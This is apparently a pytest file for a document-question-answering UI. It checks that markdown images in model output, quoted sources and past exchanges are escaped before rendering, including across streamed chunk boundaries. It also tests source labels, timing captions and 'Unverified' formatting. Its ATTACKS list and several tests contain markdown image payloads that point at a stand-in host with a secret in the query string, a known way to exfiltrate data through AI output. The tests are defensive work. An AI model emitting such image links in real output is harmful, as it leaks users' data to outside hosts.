"""Model output is rendered without loading images: the escaping is checked on the Markdown text and by
parsing it with a CommonMark parser (markdown-it, which ships with rich)."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from ui.render import (
    answer_markdown,
    neutralise_images,
    safe_pieces,
    snippet,
    source_label,
    sources_heading,
    timing_caption,
)

ATTACKS = [
    "![x](https://evil.example/pixel.png?q=secret)",
    'Look: ![logo](http://evil.example/a.png "t") done',
    "![ref style][img]\n\n[img]: https://evil.example/b.png",
    "![shortcut]\n\n[shortcut]: https://evil.example/c.png",
    "[![nested](https://evil.example/d.png)](https://example.com)",
    "!![double](https://evil.example/e.png)",
    "![local](/app/static/x.png)",
]


def image_sources(markdown: str) -> list[str]:
    tokens = MarkdownIt("commonmark").parse(markdown)
    found = []
    for token in tokens:
        for child in token.children or []:
            if child.type == "image":
                found.append(child.attrGet("src"))
    return found


@pytest.mark.parametrize("text", ATTACKS)
def test_no_image_survives(text):
    assert image_sources(text)  # the attack is a real image before neutralising
    assert image_sources(neutralise_images(text)) == []


def test_plain_text_links_and_exclamations_are_kept():
    text = "Wow! See [the guide](https://example.com/guide) and [1]. Done!"
    assert neutralise_images(text) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_streamed_pieces_are_neutralised_across_piece_boundaries(text):
    for cut in range(1, len(text)):
        pieces = [text[:cut], text[cut:]]
        joined = "".join(safe_pieces(pieces))
        assert joined == neutralise_images(text)
        assert image_sources(joined) == []


def test_stream_keeps_a_trailing_exclamation_mark():
    assert "".join(safe_pieces(["Hello", "!"])) == "Hello!"
    assert list(safe_pieces(["!", "[", "a](u)"])) == ["!\\[", "a](u)"]


def test_source_label_and_snippet():
    source = {
        "number": 2,
        "title": "Returns",
        "source": "/docs/policies/returns.pdf",
        "page": 3,
        "score": 0.61234,
    }
    assert source_label(source) == "[2] Returns — returns.pdf, page 3 (score 0.61)"
    assert source_label(source | {"cited": True}) == "[2] Returns — returns.pdf, page 3 (score 0.61) · cited"
    assert source_label({"title": "![t](https://x/y.png)", "source": "a.md", "score": 0.5}).startswith(
        "!\\[t]"
    )
    long = "word " * 200
    cut = snippet(long, limit=50)
    assert cut.endswith(" …") and len(cut) <= 52
    assert snippet("a\n\n  b") == "a b"


def test_timing_caption():
    answer = {
        "abstained": False,
        "adapter": "demo",
        "prompt_tokens": 120,
        "completion_tokens": 30,
        "timings": {"total_ms": 2500.0, "first_token_ms": 400.0, "tokens_per_s": 14.2},
    }
    assert timing_caption(answer) == (
        "2.5 s total · first token 0.4 s · 14.2 tokens/s · 120 prompt + 30 answer tokens · adapter demo"
    )
    assert "abstained (no relevant document)" in timing_caption(
        {"abstained": True, "timings": {"total_ms": 10.0}}
    )
    declined = timing_caption(answer | {"abstained": True})
    assert "abstained (the model declined)" in declined and "30 answer tokens" in declined


def test_sources_heading_counts_citations_and_names_nearest_documents():
    sources = [{"number": 1, "cited": True}, {"number": 2, "cited": False}, {"number": 3}]
    assert sources_heading(sources, abstained=False) == "Sources (3 · 1 cited)"
    # Under an answer marked unverified the top source is quoted (and so marked cited), yet it confirmed nothing.
    assert sources_heading(sources, abstained=True) == (
        "Sources (3 · nearest documents, 1 quoted, none confirmed the answer)"
    )
    assert sources_heading(sources[1:], abstained=True) == (
        "Sources (2 · nearest documents, none answered the question)"
    )


def test_the_quote_under_an_answer_is_a_block_quote_and_carries_no_image():
    quote = "From [1] Returns policy: \u201c30 days from delivery ![x](https://evil.example/p.png)\u201d"
    answer = {"answer": f"You have 30 days [1].\n\n{quote}"}  # a stored message keeps no `quote` of its own
    markdown = answer_markdown(answer)
    assert markdown.startswith("You have 30 days [1].\n\n> From [1] Returns policy: ")
    tokens = [token.type for token in MarkdownIt("commonmark").parse(markdown)]
    assert "blockquote_open" in tokens and not image_sources(markdown)
    # Without a quote (older answers, abstentions) the text is shown as it is.
    assert answer_markdown({"answer": "Not in the docs."}) == "Not in the docs."


def test_the_past_exchange_under_an_answer_is_a_block_quote_of_its_own():
    from assistant.answer import Example
    from assistant.precedent import precedent_line

    quote = "From [1] Returns policy: \u201c30 days from delivery.\u201d"
    past = precedent_line(
        Example("can I return it?", "Yes, within 30 days ![x](https://evil.example/p.png)", "x", 0.8)
    )
    markdown = answer_markdown({"answer": f"You have 30 days [1].\n\n{quote}\n\n{past}"})
    assert markdown.startswith(
        f"You have 30 days [1].\n\n> {quote}\n\n> Our team answered a similar question"
    )
    tokens = [token.type for token in MarkdownIt("commonmark").parse(markdown)]
    assert tokens.count("blockquote_open") == 2 and not image_sources(markdown)
    # Under an abstention, with no quote: the past exchange alone is set apart.
    declined = answer_markdown({"answer": f"Not in the docs.\n\n{past}"})
    assert declined.startswith("Not in the docs.\n\n> Our team answered")


def test_the_line_flagging_unverified_sentences_has_its_label_in_bold():
    from assistant.grounding import unverified_note

    note = unverified_note(["It costs $199."], ["199"])
    quote = "From [1] Prices: \u201cThe router costs $149.\u201d"
    markdown = answer_markdown({"answer": f"It is sold online. It costs $199.\n\n{note}\n\n{quote}"})
    assert markdown.startswith(
        "It is sold online. It costs $199.\n\n**Unverified**, no source states 199: \u201cIt costs $199.\u201d"
    )
    assert markdown.endswith(f"\n\n> {quote}")
    other = "Unverified, source 2 says otherwise: \u201cIt is not sold online.\u201d"
    assert answer_markdown({"answer": f"It is sold online.\n\n{other}"}) == (
        "It is sold online.\n\n**Unverified**, source 2 says otherwise: \u201cIt is not sold online.\u201d"
    )
    # The word alone, in the model's own sentence, is left as it is.
    assert (
        answer_markdown({"answer": "Unverified accounts cannot order."})
        == "Unverified accounts cannot order."
    )
